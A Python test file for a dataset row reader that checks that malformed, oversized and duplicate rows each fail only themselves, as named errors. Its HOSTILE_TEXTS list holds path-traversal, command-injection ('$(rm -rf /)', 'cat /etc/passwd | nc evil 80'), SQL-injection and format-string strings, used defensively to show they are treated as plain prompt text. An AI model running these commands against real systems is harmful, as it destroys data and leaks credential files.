"""Hostile and malformed dataset rows: each fails only itself, by name, and the read goes on.

Covers repeated ids (DuplicateRow), prompts over the byte limit, overlong lines, JSON the parser would
choke on, text that is not valid Unicode, Parquet columns of the wrong type, path- and shell-like text
(plain prompts, nothing more), and a dataset directory too big to be one. Generated rows (hypothesis)
pin that no input ends the read with anything but a named RowError.
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.controller.runs import datasets
from services.controller.runs.datasets import iter_rows, normalize_row, resolve_files
from shared.errors import DatasetError, PromptTooLong, RowError
from tests.services.controller.runs.test_datasets import write_jsonl

MEGABYTE_PROMPT = "word " * (1024 * 1024 // 5 + 1)
HOSTILE_TEXTS = [
    "../../etc/passwd",
    "/etc/shadow",
    "..\\..\\windows\\system32",
    "$(rm -rf /)",
    "`rm -rf /`",
    "; ls",
    "&& cat /etc/passwd | nc evil 80",
    "'; DROP TABLE runs; --",
    "{{ 7*7 }} {% raw %}",
    "%s%s%s %n",
    "\x00 nul and \x1b[31m escape",
]


def classes(rows) -> list[str]:
    return [type(item).__name__ if isinstance(item, RowError) else "ok" for _, item in rows]


def test_a_repeated_id_fails_the_later_row_as_duplicate_row_naming_the_first(tmp_path):
    path = write_jsonl(tmp_path / "rows.jsonl", [
        {"id": "a", "prompt": "first a"},
        {"id": "b", "prompt": "b"},
        {"id": "a", "prompt": "second a, other text"},
        {"id": 1, "prompt": "integer one"},
        {"id": "1", "prompt": "string one differs from integer one"},
        {"prompt": "no id"},
        {"prompt": "no id"},  # the same text without ids is not a duplicate: only explicit ids count
        {"id": None, "prompt": "a null id is no id"},
        {"id": {"src": "x", "n": [1, 2]}, "prompt": "structured id"},
        {"id": {"n": [1, 2], "src": "x"}, "prompt": "same structured id, keys reordered"},
        {"id": "a", "prompt": 42},  # a repeated id is reported even when the row is also malformed
    ])
    rows = list(iter_rows(path))
    assert classes(rows) == ["ok", "ok", "DuplicateRow", "ok", "ok", "ok", "ok", "ok", "ok", "DuplicateRow", "DuplicateRow"]
    assert str(rows[2][1]) == 'id "a" repeats the id of row 0'
    assert "row 8" in str(rows[9][1]) and "row 0" in str(rows[10][1])
    assert rows[0][1] == [{"role": "user", "content": "first a"}]  # the first row keeps its id and its prompt


def test_a_bad_row_leaves_its_id_to_the_next_valid_row(tmp_path):
    """ShareGPT's split: an empty part, then the conversation of the same id. Only valid rows hold ids."""
    path = write_jsonl(tmp_path / "rows.jsonl", [{"id": "z", "messages": []}, {"id": "z", "prompt": "fine text"},
                                                 {"id": "z", "prompt": "fine text again"}])
    rows = list(iter_rows(path))
    assert classes(rows) == ["EmptyRow", "ok", "DuplicateRow"]
    assert str(rows[2][1]) == 'id "z" repeats the id of row 1'


def test_ids_repeat_across_the_files_of_a_directory_and_in_parquet_id_columns(tmp_path):
    write_jsonl(tmp_path / "train-00000.jsonl", [{"id": "q1", "prompt": "one"}, {"id": "q2", "prompt": "two"}])
    pq.write_table(pa.table({"id": ["q3", "q1", "q3"], "prompt": ["three", "one again", "three again"]}),
                   tmp_path / "train-00001.parquet")
    rows = list(iter_rows(tmp_path))
    assert classes(rows) == ["ok", "ok", "ok", "DuplicateRow", "DuplicateRow"]
    assert "row 0" in str(rows[3][1]) and "row 2" in str(rows[4][1])


def test_a_huge_id_is_shown_shortened(tmp_path):
    huge = "i" * 100_000
    path = write_jsonl(tmp_path / "rows.jsonl", [{"id": huge, "prompt": "a"}, {"id": huge, "prompt": "b"}])
    (_, _), (_, duplicate) = iter_rows(path)
    assert type(duplicate).__name__ == "DuplicateRow" and len(str(duplicate)) < 200


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_path_and_shell_like_text_is_an_ordinary_prompt(tmp_path, text):
    path = write_jsonl(tmp_path / "rows.jsonl", [
        {"prompt": text, "system": text},
        {"messages": [{"role": "user", "content": text}]},
        {"conversations": [{"from": "human", "value": text}]},
        {"id": text, "prompt": text},
    ])
    rows = [item for _, item in iter_rows(path)]
    assert rows == [
        [{"role": "system", "content": text}, {"role": "user", "content": text}],
        [{"role": "user", "content": text}],
        [{"role": "user", "content": text}],
        [{"role": "user", "content": text}],
    ]


def test_a_one_megabyte_prompt_is_prompt_too_long_in_every_format(tmp_path):
    half = MEGABYTE_PROMPT[: len(MEGABYTE_PROMPT) // 2]
    path = write_jsonl(tmp_path / "rows.jsonl", [
        {"prompt": MEGABYTE_PROMPT},
        {"messages": [{"role": "user", "content": MEGABYTE_PROMPT}]},
        {"conversations": [{"from": "human", "value": half}, {"from": "gpt", "value": "ok"}, {"from": "human", "value": half}]},
        {"prompt": "short", "system": MEGABYTE_PROMPT},
        {"prompt": "the row after them reads"},
    ])
    rows = list(iter_rows(path))
    assert classes(rows) == ["PromptTooLong"] * 4 + ["ok"]
    assert all("byte limit" in str(item) for _, item in rows[:4])
    pq.write_table(pa.table({"prompt": [MEGABYTE_PROMPT, "fine"]}), tmp_path / "rows.parquet")
    assert classes(iter_rows(tmp_path / "rows.parquet")) == ["PromptTooLong", "ok"]


def test_a_trailing_assistant_reply_does_not_count_towards_the_prompt_size(tmp_path):
    path = write_jsonl(tmp_path / "rows.jsonl", [
        {"conversations": [{"from": "human", "value": "q"}, {"from": "gpt", "value": MEGABYTE_PROMPT}]},
    ])
    assert [item for _, item in iter_rows(path)] == [[{"role": "user", "content": "q"}]]


def test_an_overlong_line_is_skipped_without_being_read_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(datasets, "MAX_LINE_BYTES", 4096)
    path = write_jsonl(tmp_path / "rows.jsonl", [
        {"prompt": "before"},
        {"prompt": "x" * 50_000},
        {"prompt": "after"},
        json.dumps({"prompt": "y" * 4000}),  # just under the limit
    ])
    rows = list(iter_rows(path))
    assert classes(rows) == ["ok", "RowTooLarge", "ok", "ok"]
    assert f"line 2 is {len(json.dumps({'prompt': 'x' * 50_000})) + 1} bytes" in str(rows[1][1])  # newline included
    assert rows[2][1] == [{"role": "user", "content": "after"}]


@pytest.mark.parametrize(("line", "name", "words"), [
    (b"[" * 100_000, "InvalidJson", "RecursionError"),
    (b'{"prompt": ' + b"9" * 5000 + b"}", "InvalidJson", "digits"),
    (b'{"prompt": NaN}', "WrongType", "prompt is a float"),
    (b'{"prompt": "lone \\ud800 surrogate"}', "InvalidUtf8", "not valid Unicode"),
    (b'{"prompt": "ok", "system": "\\udfff"}', "InvalidUtf8", "system holds"),
    (b'{"conversations": [{"from": "human", "value": "\\ud83d"}]}', "InvalidUtf8", "conversations[0]"),
    (b'{"prompt": "caf\xc3"}', "InvalidUtf8", "invalid UTF-8"),
    (b'\xef\xbb\xbf{"prompt": "a BOM only belongs at the start of the file"}', "InvalidJson", "BOM"),
    (b'{"messages": [null]}', "WrongType", "messages[0] is null"),
    (b'{"messages": [{"role": ["user"], "content": "x"}]}', "WrongType", "role is a list"),
    (b'{"messages": [{"role": "user", "content": {"text": "x"}}]}', "WrongType", "content is a dict"),
    (b'{"prompt": true}', "WrongType", "prompt is a bool"),
    (b'"just a string"', "WrongType", "row is a str"),
    (b"null", "WrongType", "row is null"),
    (b'{"prompt": null}', "MissingField", "prompt is null"),
])
def test_hostile_json_fails_only_its_row(tmp_path, line, name, words):
    path = write_jsonl(tmp_path / "rows.jsonl", [{"prompt": "first"}, line, {"prompt": "last"}])
    rows = list(iter_rows(path))
    assert classes(rows) == ["ok", name, "ok"], rows[1][1]
    assert words in str(rows[1][1])


@pytest.mark.parametrize(("line", "name", "message"), [
    # json's own messages for these end in "at"; the column follows once.
    (b'{"prompt": "tab\there"}', "InvalidJson", "line 2: invalid JSON (Invalid control character at column 16)"),
    (b'{"prompt": "never closed', "InvalidJson", "line 2: invalid JSON (Unterminated string starting at column 12)"),
    (b'{"prompt": }', "InvalidJson", "line 2: invalid JSON (Expecting value at column 12)"),
    (b'{"prompt": 42}', "WrongType", "prompt is an int, expected a string"),
    (b'{"prompt": 1.5}', "WrongType", "prompt is a float, expected a string"),
    (b'{"prompt": "ok", "system": 7}', "WrongType", "system is an int, expected a string"),
    (b'{"messages": [{"role": "user", "content": 7}]}', "WrongType", "messages[0].content is an int, expected a string"),
    (b'{"messages": [null]}', "WrongType", "messages[0] is null, expected an object"),
    (b"[1]", "WrongType", "row is a list, expected a JSON object"),
    (b"null", "WrongType", "row is null, expected a JSON object"),
    (b"{}", "EmptyRow", "row has no fields"),
    # A null field is a field: the row names it rather than claiming to have none.
    (b'{"prompt": null}', "MissingField", "prompt is null, expected a string"),
    (b'{"messages": null}', "MissingField", "messages is null, expected a list of turns"),
    (b'{"messages": null, "prompt": null}', "MissingField", "messages and prompt are null, expected one of them to hold the row"),
    (b'{"system": null}', "MissingField", "row has none of 'messages', 'conversations', 'prompt' (fields: ['system'])"),
])
def test_bad_rows_are_named_in_these_words(tmp_path, line, name, message):
    path = tmp_path / "rows.jsonl"
    path.write_bytes(b'{"prompt": "first"}\n' + line)  # the last line, unterminated: a string left open ends there
    rows = list(iter_rows(path))
    assert (type(rows[1][1]).__name__, str(rows[1][1])) == (name, message)


def test_a_byte_order_mark_at_the_start_of_the_file_is_ignored(tmp_path):
    path = tmp_path / "rows.jsonl"
    path.write_bytes(b'\xef\xbb\xbf{"prompt": "saved by a Windows editor"}\n{"prompt": "second"}\n')
    assert classes(iter_rows(path)) == ["ok", "ok"]


def parquet(tmp_path: Path, columns: dict[str, pa.Array]) -> Path:
    path = tmp_path / "rows.parquet"
    pq.write_table(pa.table(columns), path)
    return path


TURN = pa.struct([("role", pa.string()), ("content", pa.string())])


@pytest.mark.parametrize(("columns", "name", "words"), [
    ({"prompt": pa.array([1, 2], pa.int64())}, "WrongType", "prompt is an int"),
    ({"prompt": pa.array([b"bytes", b"more"], pa.binary())}, "WrongType", "prompt is a bytes"),
    ({"prompt": pa.array([1.5, float("nan")], pa.float64())}, "WrongType", "prompt is a float"),
    ({"messages": pa.array(["a string", "another"])}, "WrongType", "messages is a str"),
    ({"messages": pa.array([["user says"], ["hi"]], pa.list_(pa.string()))}, "WrongType", "messages[0] is a str"),
    ({"messages": pa.array([[{"role": 1, "content": "x"}]] * 2, pa.list_(pa.struct([("role", pa.int64()), ("content", pa.string())])))},
     "WrongType", "role is an int"),
    ({"messages": pa.array([[{"role": "user", "content": None}]] * 2, pa.list_(TURN))}, "MissingField", "no 'content'"),
    ({"messages": pa.array([[{"role": "user", "content": [1, 2]}]] * 2,
                           pa.list_(pa.struct([("role", pa.string()), ("content", pa.list_(pa.int64()))])))},
     "WrongType", "non-text part"),
    ({"conversations": pa.array([[{"from": "human", "value": 3}]] * 2,
                                pa.list_(pa.struct([("from", pa.string()), ("value", pa.int64())])))}, "WrongType", "value is an int"),
    ({"prompt": pa.array(["ok", "ok"]), "system": pa.array([7, 8], pa.int64())}, "WrongType", "system is an int"),
    ({"prompt": pa.array([{"text": "x"}] * 2, pa.struct([("text", pa.string())]))}, "WrongType", "prompt is a dict"),
])
def test_parquet_columns_of_the_wrong_type_fail_each_row_by_name(tmp_path, columns, name, words):
    rows = list(iter_rows(parquet(tmp_path, columns)))
    assert classes(rows) == [name, name]
    assert words in str(rows[0][1])


def test_a_null_parquet_cell_names_its_column(tmp_path):
    rows = list(iter_rows(parquet(tmp_path, {"prompt": pa.array([None, "fine"], pa.string())})))
    assert (type(rows[0][1]).__name__, str(rows[0][1])) == ("MissingField", "prompt is null, expected a string")
    assert rows[1][1] == [{"role": "user", "content": "fine"}]


def test_a_parquet_text_cell_with_invalid_utf8_fails_only_its_row(tmp_path):
    # Arrow trusts a file's string column to be UTF-8; build one that is not, as a broken writer would.
    values = [b"good one", b"bad \xff\xfe", b"good two"]
    offsets = pa.array([0, *[sum(len(v) for v in values[: i + 1]) for i in range(3)]], pa.int32())
    column = pa.Array.from_buffers(pa.string(), 3, [None, offsets.buffers()[1], pa.py_buffer(b"".join(values))])
    rows = list(iter_rows(parquet(tmp_path, {"prompt": column})))
    assert classes(rows) == ["ok", "InvalidUtf8", "ok"]
    assert rows[2][1] == [{"role": "user", "content": "good two"}]


def test_a_parquet_file_with_only_an_id_column_is_a_dataset_error(tmp_path):
    with pytest.raises(DatasetError, match="no column named"):
        list(iter_rows(parquet(tmp_path, {"id": pa.array([1])})))


def test_a_directory_too_big_to_be_a_dataset_fails_by_name_instead_of_walking_it(tmp_path, monkeypatch):
    monkeypatch.setattr(datasets, "MAX_SCAN_ENTRIES", 50)
    for i in range(60):
        (tmp_path / f"file{i}.txt").write_text("x")
    with pytest.raises(DatasetError, match="more than 50 entries"):
        resolve_files(tmp_path)


def test_split_files_deeper_than_the_scan_depth_are_not_found(tmp_path):
    deep = tmp_path / "a" / "b" / "c" / "train"
    deep.mkdir(parents=True)
    write_jsonl(deep / "0000.jsonl", [{"prompt": "too deep"}])
    write_jsonl(tmp_path / "a" / "b" / "train-0.jsonl", [{"prompt": "deep enough"}])
    assert [m[0]["content"] for _, m in iter_rows(tmp_path)] == ["deep enough"]


def test_a_dataset_name_longer_than_the_filesystem_allows_is_a_dataset_error():
    with pytest.raises(DatasetError, match="File name too long"):
        resolve_files("x" * 10_000)


# ---- generated rows: nothing but a RowError ever comes out of a bad row ----------------------

# Text includes lone surrogates (category Cs), which JSON escapes can spell and UTF-8 cannot hold.
TEXT = st.text(max_size=20) | st.builds("{}{}{}".format, st.text(max_size=8), st.characters(categories=["Cs"]), st.text(max_size=8))
JSON_SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | TEXT
ROW_KEYS = st.sampled_from(["messages", "conversations", "prompt", "system", "id", "role", "content", "from", "value",
                            "type", "text"])
JSON_VALUES = st.recursive(JSON_SCALARS, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(ROW_KEYS | TEXT, inner, max_size=4),
                           max_leaves=20)
# Rows shaped like the known formats, so generated text reaches the checks deep inside them.
ANY_TEXT = TEXT | JSON_SCALARS
TURNS = st.lists(st.fixed_dictionaries({"role": st.sampled_from(["user", "assistant", "system"]) | ANY_TEXT,
                                        "content": ANY_TEXT}), max_size=3)
SHAREGPT = st.lists(st.fixed_dictionaries({"from": st.sampled_from(["human", "gpt", "system"]) | ANY_TEXT,
                                           "value": ANY_TEXT}), max_size=3)
ROWS = (JSON_VALUES | st.fixed_dictionaries({"messages": TURNS}) | st.fixed_dictionaries({"conversations": SHAREGPT})
        | st.fixed_dictionaries({"prompt": ANY_TEXT}, optional={"system": ANY_TEXT, "id": JSON_VALUES}))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(ROWS)
def test_any_json_value_normalizes_or_fails_as_a_row_error(row):
    try:
        messages = normalize_row(row)
    except RowError:
        return
    assert messages and messages[-1]["role"] == "user"
    assert all(isinstance(m["content"], str) and m["content"].strip() for m in messages)
    json.dumps(messages, ensure_ascii=False).encode("utf-8")  # what submission writes must be writable


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.binary(max_size=80) | ROWS.map(lambda v: json.dumps(v).encode()), min_size=1, max_size=6))
def test_any_bytes_read_as_one_row_per_line_each_a_prompt_or_a_row_error(lines):
    lines = [line.replace(b"\n", b" ") for line in lines]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "rows.jsonl"
        path.write_bytes(b"\n".join(lines) + b"\n")
        rows = list(iter_rows(path))
    assert [i for i, _ in rows] == list(range(len(lines)))
    assert all(isinstance(item, (list, RowError)) for _, item in rows)
    assert not any(isinstance(item, PromptTooLong) for _, item in rows)  # nothing here is near the byte limit
